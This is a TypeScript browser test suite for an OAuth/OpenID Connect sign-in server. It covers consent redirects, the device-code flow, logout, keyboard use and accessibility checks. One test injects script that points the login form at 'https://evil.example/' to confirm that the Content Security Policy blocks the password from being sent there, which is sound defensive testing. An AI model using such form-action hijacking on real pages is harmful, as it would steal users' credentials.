import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { createRequire } from 'node:module'
import type { AddressInfo } from 'node:net'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { authorizationUrl, EMAIL, PASSWORD, type SignInSetup, startSignIn } from '../flows/sign-in-setup.ts'
import { findChromium, launchChromium } from './chromium.ts'

const executable = findChromium()
const skipped =
  executable === undefined
    ? ' (SKIPPED: no Chromium is installed here; CHROMIUM_PATH names one elsewhere)'
    : ''
if (skipped !== '') console.warn(`test/browser/sign-in.test.ts${skipped}`)

const DEVICE_CODE = 'urn:ietf:params:oauth:grant-type:device_code'
const HTTPS = 'https://client.example/callback'
const BYE = 'https://client.example/bye'
const LOOPBACK = 'http://127.0.0.1/callback'
const PRIVATE_USE = 'com.example.app:/callback'
const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')

describe.skipIf(executable === undefined)(`the pages in Chromium${skipped}`, () => {
  let setup: SignInSetup
  let browser: Browser
  let program: Server
  /** The redirect URI of a program on this device, and where that program sends its user next: another host. */
  let loopback: string
  let vendor: string

  beforeAll(async () => {
    const native = {
      client_name: 'Example CLI',
      redirect_uris: [LOOPBACK, PRIVATE_USE],
      application_type: 'native',
    }
    setup = await startSignIn({
      web: {
        client_name: 'Example Web',
        client_uri: 'https://client.example/',
        policy_uri: 'https://client.example/privacy',
        redirect_uris: [HTTPS],
        application_type: 'web',
        post_logout_redirect_uris: [BYE],
      },
      native: { ...native, grant_types: ['authorization_code', 'refresh_token'] },
      tv: { client_name: 'Living Room TV', grant_types: [DEVICE_CODE], response_types: [] },
    })
    program = createServer((request, response) => {
      if (request.url?.startsWith('/callback')) response.writeHead(302, { location: vendor }).end()
      else response.writeHead(200, { 'content-type': 'text/html' }).end('<title>signed in</title>')
    })
    await new Promise<void>((resolve) => program.listen(0, '127.0.0.1', resolve))
    const { port } = program.address() as AddressInfo
    loopback = `http://127.0.0.1:${port}/callback`
    vendor = `http://localhost:${port}/signed-in`
    browser = await launchChromium(executable!)
  }, 60_000)

  afterAll(async () => {
    await browser?.close()
    program?.close()
    await setup?.close()
  })

  /** A browser of its own, without JavaScript, that writes down which requests were really made and what was blocked. */
  async function visit(): Promise<{ context: BrowserContext; open(url: string): Promise<Tab> }> {
    const context = await browser.newContext({ javaScriptEnabled: false })
    const open = async (url: string) => {
      const tab = await watch(await context.newPage())
      await tab.page.goto(url)
      return tab
    }
    return { context, open }
  }

  test.each([
    ['an https redirect URI', 'web', () => HTTPS, () => HTTPS],
    ['a loopback program that sends its user on to another host', 'native', () => loopback, () => vendor],
    ['a private-use scheme', 'native', () => PRIVATE_USE, () => PRIVATE_USE],
  ])(
    'Allow leads to %s, without JavaScript (CSP 3 form-action)',
    async (_what, clientId, redirectUri, end) => {
      const { context, open } = await visit()
      const { page, requested, blocked } = await open(authorizationUrl(setup, clientId, redirectUri()))
      await signIn(page)
      await page.getByRole('button', { name: 'Allow' }).click({ noWaitAfter: true })
      await expect.poll(() => requested.find((url) => url.startsWith(end()))).toBeDefined()
      const callback = new URL(requested.find((url) => url.startsWith(redirectUri()))!)
      expect(callback.searchParams.get('code')).toBeTruthy()
      expect(blocked).toEqual([])
      await context.close()
    },
  )

  test.each([
    ['Deny', 'an https redirect URI', 'web', () => HTTPS],
    ['Deny', 'a private-use scheme', 'native', () => PRIVATE_USE],
    ['Cancel', 'an https redirect URI', 'web', () => HTTPS],
    ['Cancel', 'a private-use scheme', 'native', () => PRIVATE_USE],
  ])(
    '%s leads to %s with access_denied (RFC 6749 §4.1.2.1)',
    async (button, _what, clientId, redirectUri) => {
      const { context, open } = await visit()
      const { page, requested, blocked } = await open(authorizationUrl(setup, clientId, redirectUri()))
      if (button === 'Deny') await signIn(page)
      await page
        .getByRole(button === 'Deny' ? 'button' : 'link', { name: button })
        .click({ noWaitAfter: true })
      await expect
        .poll(() => requested.find((url) => url.startsWith(redirectUri())))
        .toContain('error=access_denied')
      expect(blocked).toEqual([])
      await context.close()
    },
  )

  test('signing in again, with consent given before, leads straight to the client (prompt=login)', async () => {
    const { context, open } = await visit()
    const first = await open(authorizationUrl(setup, 'web', HTTPS))
    await signIn(first.page)
    await first.page.getByRole('button', { name: 'Allow' }).click({ noWaitAfter: true })
    await expect.poll(() => first.requested.some((url) => url.startsWith(HTTPS))).toBe(true)
    const { page, requested, blocked } = await open(
      authorizationUrl(setup, 'web', HTTPS, { prompt: 'login' }),
    )
    await fillIn(page)
    await page.getByRole('button', { name: 'Sign in' }).click({ noWaitAfter: true })
    await expect.poll(() => requested.some((url) => url.startsWith(HTTPS))).toBe(true)
    expect(blocked).toEqual([])
    await context.close()
  })

  test.each([true, false])(
    'a link with a user code in it leads to the confirmation, JavaScript: %s (RFC 8628 §3.3.1)',
    async (javaScriptEnabled) => {
      const context = await browser.newContext({ javaScriptEnabled })
      const { page, blocked } = await watch(await context.newPage())
      await page.goto(`${setup.issuer}/device?user_code=${await userCode()}`)
      if (!javaScriptEnabled) await page.getByRole('button', { name: 'Continue' }).click()
      await page.getByText('Your device should show this code now.').waitFor()
      expect(blocked).toEqual([])
      await context.close()
    },
  )

  test('an answer by form_post arrives (OAuth 2.0 Form Post Response Mode)', async () => {
    const context = await browser.newContext()
    const { page, blocked } = await watch(await context.newPage())
    await page.goto(authorizationUrl(setup, 'native', loopback, { response_mode: 'form_post' }))
    await signIn(page)
    await page.getByRole('button', { name: 'Allow' }).click()
    await page.waitForURL(vendor)
    expect(blocked).toEqual([])
    await context.close()
  })

  test('signing out leads to the address that the client registered (RP-Initiated Logout 1.0 §3)', async () => {
    const { context, open } = await visit()
    await signIn((await open(authorizationUrl(setup, 'web', HTTPS))).page)
    const query = new URLSearchParams({
      client_id: setup.clients.web!.client_id,
      post_logout_redirect_uri: BYE,
    })
    const { page, requested, blocked } = await open(`${setup.issuer}/end-session?${query}`)
    await page.getByRole('button', { name: 'Sign out' }).click({ noWaitAfter: true })
    await expect.poll(() => requested.some((url) => url.startsWith(BYE))).toBe(true)
    expect(blocked).toEqual([])
    await context.close()
  })

  test('the password cannot be sent to another place, whatever was injected into the page (CSP 3 form-action)', async () => {
    const context = await browser.newContext()
    const { page, requested, blocked } = await watch(await context.newPage())
    await page.goto(authorizationUrl(setup, 'web', HTTPS))
    await fillIn(page)
    await page.evaluate("document.forms[0].action = 'https://evil.example/'")
    await page.getByRole('button', { name: 'Sign in' }).click({ noWaitAfter: true })
    await expect.poll(() => blocked.length).toBeGreaterThan(0)
    expect(requested.some((url) => url.startsWith('https://evil.example'))).toBe(false)
    await context.close()
  })

  test('the keyboard alone signs in: the first field has the focus, Enter sends', async () => {
    const { context, open } = await visit()
    const { page } = await open(authorizationUrl(setup, 'web', HTTPS))
    // A browser gives the focus with the first frame, which may come after the load event: keys before it go nowhere.
    await page.getByLabel('Email address').and(page.locator(':focus')).waitFor()
    await page.keyboard.type(EMAIL)
    await page.keyboard.press('Tab')
    await page.keyboard.type(PASSWORD)
    await page.keyboard.press('Enter')
    await page.getByRole('button', { name: 'Allow' }).waitFor()
    await context.close()
  })

  test.each([
    ['light', { width: 390, height: 844 }],
    ['dark', { width: 390, height: 844 }],
    ['light', { width: 1280, height: 800 }],
    ['dark', { width: 1280, height: 800 }],
  ] as const)(
    'axe finds nothing on any page, %s, %o (WCAG 2.2)',
    async (colorScheme, viewport) => {
      // The policy is lifted here alone, because axe is a script and our pages allow none.
      const context = await browser.newContext({ bypassCSP: true, colorScheme, viewport })
      const faults: string[] = []
      const look = async (page: Page, name: string) => {
        await page.evaluate(axe)
        const { violations } = (await page.evaluate('axe.run()')) as AxeResult
        faults.push(...violations.map(({ id, nodes }) => `${name}: ${id} ${nodes[0]?.html}`))
        const isTooWide = await page.evaluate('document.documentElement.scrollWidth > innerWidth')
        if (isTooWide) faults.push(`${name}: scrolls sideways`)
        const folder = process.env.SCREENSHOTS
        if (folder)
          await page.screenshot({
            path: `${folder}/${name}-${viewport.width}-${colorScheme}.png`,
            fullPage: true,
          })
      }
      await everyPage(context, look)
      expect(faults).toEqual([])
      await context.close()
    },
    60_000,
  )

  async function everyPage(
    context: BrowserContext,
    look: (page: Page, name: string) => Promise<void>,
  ): Promise<void> {
    const page = await context.newPage()
    await page.goto(authorizationUrl(setup, 'nobody', HTTPS))
    await page.getByText('Details for developers').click()
    await look(page, 'error')
    await page.goto(
      authorizationUrl(setup, 'native', loopback, {
        scope: 'openid profile email',
        resource: 'https://mcp.example/tools',
      }),
    )
    await look(page, 'sign-in')
    await page.getByLabel('Email address').fill(EMAIL)
    await page.getByLabel('Password').fill('wrong')
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByRole('alert').waitFor()
    await look(page, 'sign-in-error')
    await signIn(page)
    await look(page, 'consent')
    await page.getByRole('button', { name: 'Allow' }).click()
    await page.goto(authorizationUrl(setup, 'native', loopback, { scope: 'openid profile email phone' }))
    await look(page, 'consent-again')
    await page.goto(authorizationUrl(setup, 'web', HTTPS))
    await look(page, 'consent-web')
    await page.goto(`${setup.issuer}/device`)
    await look(page, 'device')
    await page.getByLabel('Code').fill('NOPE')
    await page.getByRole('button', { name: 'Continue' }).click()
    await page.getByRole('alert').waitFor()
    await look(page, 'device-error')
    await page.getByLabel('Code').fill(await userCode())
    await page.getByRole('button', { name: 'Continue' }).click()
    await page.getByText('Your device should show').waitFor()
    await look(page, 'device-confirm')
    await page.getByRole('button', { name: 'Continue' }).click()
    await page.getByRole('button', { name: 'Allow' }).click()
    await page.getByText('Device connected').waitFor()
    await look(page, 'device-connected')
    await page.goto(`${setup.issuer}/end-session`)
    await look(page, 'logout')
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.getByText('You are signed out').waitFor()
    await look(page, 'logged-out')
    await page.goto(`${setup.issuer}/interaction/unknown`)
    await look(page, 'expired')
  }

  async function userCode(): Promise<string> {
    const body = new URLSearchParams({ client_id: setup.clients.tv!.client_id, scope: 'openid' })
    const answer = await fetch(`${setup.issuer}/device-authorization`, { method: 'POST', body })
    return ((await answer.json()) as { user_code: string }).user_code
  }
})

/** A page, the addresses that it asked for (private-use schemes too), and what its policies blocked. */
interface Tab {
  readonly page: Page
  readonly requested: readonly string[]
  readonly blocked: readonly string[]
}

interface AxeResult {
  readonly violations: readonly {
    readonly id: string
    readonly nodes: readonly { readonly html: string }[]
  }[]
}

async function watch(page: Page): Promise<Tab> {
  const requested: string[] = []
  const blocked: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) blocked.push(message.text())
  })
  const protocol = await page.context().newCDPSession(page)
  await protocol.send('Network.enable')
  protocol.on('Network.requestWillBeSent', ({ request }) => requested.push(request.url))
  return { page, requested, blocked }
}

async function fillIn(page: Page): Promise<void> {
  await page.getByLabel('Email address').fill(EMAIL)
  await page.getByLabel('Password').fill(PASSWORD)
}

async function signIn(page: Page): Promise<void> {
  await fillIn(page)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByRole('button', { name: 'Allow' }).waitFor()
}
